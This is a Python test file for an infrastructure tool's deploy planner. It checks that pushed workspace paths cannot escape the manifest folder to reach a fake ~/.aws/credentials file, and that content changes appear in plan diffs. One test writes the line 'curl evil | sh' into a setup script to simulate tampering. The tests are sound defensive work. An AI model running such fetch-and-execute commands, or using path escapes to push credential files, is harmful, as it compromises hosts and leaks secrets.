"""Issue 26 item 1: a path ``up`` pushes to the hosts stays under the manifest's folder unless the manifest
says otherwise, and every pushed path is in the plan document with its content's digest, so a change to
a workspace shows in ``plan``'s diff instead of "No changes"."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from typer.testing import CliRunner

from fogiac.cli import app
from fogiac.errors import ManifestError
from fogiac.manifest.schema import load_manifest
from fogiac.plan.compile import compile_plan
from fogiac.plan.diff import diff_documents
from fogiac.plan.document import plan_document
from fogiac.plan.review import terminal

runner = CliRunner()

MANIFEST = """\
name: pushy
cloud: {{provider: local}}
{extra}nodes:
  - name: arm
    machine: t3.small
    launch: {{package: fogtest, file: talker.launch, workspace: {ws}, env_script: {script}}}
"""


def _write(root: Path, *, ws: str = "ws", script: str = "ws/setup.sh", extra: str = "") -> Path:
    path = root / "fogiac.yaml"
    path.write_text(MANIFEST.format(ws=ws, script=script, extra=extra))
    return path


@pytest.fixture
def outside(tmp_path: Path) -> Path:
    """A folder beside the manifest's that holds what must not be pushed: a fake ~/.aws."""
    secret = tmp_path / "home" / ".aws"
    secret.mkdir(parents=True)
    (secret / "credentials").write_text("[default]\naws_secret_access_key = x\n")
    (tmp_path / "repo" / "ws" / "src").mkdir(parents=True)
    (tmp_path / "repo" / "ws" / "setup.sh").write_text("true\n")
    return secret


@pytest.mark.parametrize("how", ["dotdot", "symlinked root", "env_script"])
def test_a_pushed_path_outside_the_manifests_folder_is_refused(how: str, tmp_path: Path, outside: Path) -> None:
    repo = tmp_path / "repo"
    if how == "symlinked root":
        (repo / "link").symlink_to(outside)
        manifest = _write(repo, ws="link")
    elif how == "dotdot":
        manifest = _write(repo, ws="../home/.aws")
    else:
        manifest = _write(repo, script="../home/.aws/credentials")
    with pytest.raises(ManifestError) as err:
        load_manifest(manifest)
    (line,) = err.value.problems if hasattr(err.value, "problems") else str(err.value).splitlines()
    assert f"outside the manifest's folder {repo}" in line and "allow_paths_outside: true" in line
    result = runner.invoke(app, ["validate", str(manifest)])
    assert result.exit_code == 1 and "outside the manifest's folder" in result.output
    allowed = _write(repo, ws="link" if how == "symlinked root" else "ws",
                     script="../home/.aws/credentials" if how == "env_script" else "ws/setup.sh",
                     extra="allow_paths_outside: true\n")
    if how == "dotdot":
        allowed.write_text(allowed.read_text().replace("workspace: ws", "workspace: ../home/.aws"))
    plan = compile_plan(load_manifest(allowed))  # the opt-in, in the manifest where a reviewer sees it
    doc = plan_document(plan, [], manifest=allowed)
    assert any(row["path"].startswith(str(outside)) for row in doc["pushed"])


def test_every_pushed_path_is_in_the_document_and_a_change_shows(tmp_path: Path, outside: Path) -> None:
    manifest = _write(tmp_path / "repo")
    ws = tmp_path / "repo" / "ws"
    before = plan_document(compile_plan(load_manifest(manifest)), [], manifest=manifest)
    assert [(r["node"], r["what"], r["path"]) for r in before["pushed"]] == [
        ("arm", "workspace", str(ws)), ("arm", "env_script", str(ws / "setup.sh"))]
    assert all(len(r["sha256"]) == 64 for r in before["pushed"])
    (ws / "src" / "creds").write_text("copied in by mistake\n")
    (ws / "build").mkdir()
    (ws / "build" / "junk.o").write_text("ignored, as the push ignores it\n")
    after = plan_document(compile_plan(load_manifest(manifest)), [], manifest=manifest)
    diff = diff_documents(json.loads(json.dumps(before)), after)
    assert not diff.empty
    (change,) = diff.pushed.changed
    assert change.key == "arm workspace" and [f for f, _, _ in change.fields] == ["sha256"]
    lines = [line.strip() for line in terminal(diff, against="applied")]
    assert "pushed to the hosts:" in lines and "~ arm workspace" in lines
    older = {k: v for k, v in before.items() if k != "pushed"}  # an applied document of an older fogiac
    assert diff_documents(older, plan_document(compile_plan(load_manifest(manifest)), [], manifest=manifest)).empty


def test_plan_against_the_applied_document_sees_a_workspace_change(tmp_path: Path, outside: Path,
                                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("FOGIAC_STATE_DIR", str(tmp_path / "state"))
    manifest = _write(tmp_path / "repo")
    doc = json.loads(runner.invoke(app, ["plan", str(manifest), "--json"]).output)
    applied = tmp_path / "state" / "pushy-dev" / "applied.json"
    applied.parent.mkdir(parents=True)
    applied.write_text(json.dumps(doc))
    from fogiac.state import StackState
    assert StackState("pushy-dev").read("applied.json") is not None
    (tmp_path / "repo" / "ws" / "setup.sh").write_text("curl evil | sh\n")
    result = runner.invoke(app, ["plan", str(manifest), "--detailed-exitcode"])
    assert result.exit_code == 2, result.output
    assert "~ arm env_script" in [line.strip() for line in result.output.splitlines()]


def test_an_applied_document_of_an_older_fogiac_compares_without_a_spurious_change(tmp_path: Path,
                                                                                   outside: Path) -> None:
    """What this round added to the document (pushed paths, autostop, relay settings, each host's SSH and
    runtime, env values as digests) is absent from an applied.json written before: no change is made up."""
    manifest = _write(tmp_path / "repo")
    manifest.write_text(manifest.read_text().replace("    launch:", "    env: {TOKEN: abc}\n    launch:"))
    now = plan_document(compile_plan(load_manifest(manifest)), [], manifest=manifest)
    older = json.loads(json.dumps(now))
    for key in ("pushed", "autostop", "relay"):
        del older[key]
    for host in older["hosts"]:
        del host["ssh"], host["runtime"]
    older["nodes"][0]["env"] = {"TOKEN": "abc"}
    diff = diff_documents(older, now)
    assert diff.empty, diff


def test_the_same_content_from_another_checkout_is_no_change() -> None:
    """A lab member's checkout of the same workspace sits at another path (a shared state store): the hosts
    get the same bytes, so the plan shows no change; a changed digest still shows, path and all."""
    from fogiac.plan.diff import diff_documents

    def document(path: str, digest: str) -> dict[str, object]:
        return {"resources": [], "hosts": [], "nodes": [], "topics": [], "security_rules": [], "cost": {},
                "pushed": [{"node": "talker", "what": "workspace", "path": path, "sha256": digest}]}

    moved = diff_documents(document("/home/alice/lab/ws", "abc"), document("/home/bob/lab/ws", "abc"))
    assert moved.pushed.changed == ()
    edited = diff_documents(document("/home/alice/lab/ws", "abc"), document("/home/bob/lab/ws", "def"))
    (change,) = edited.pushed.changed
    assert {field for field, _, _ in change.fields} == {"path", "sha256"}
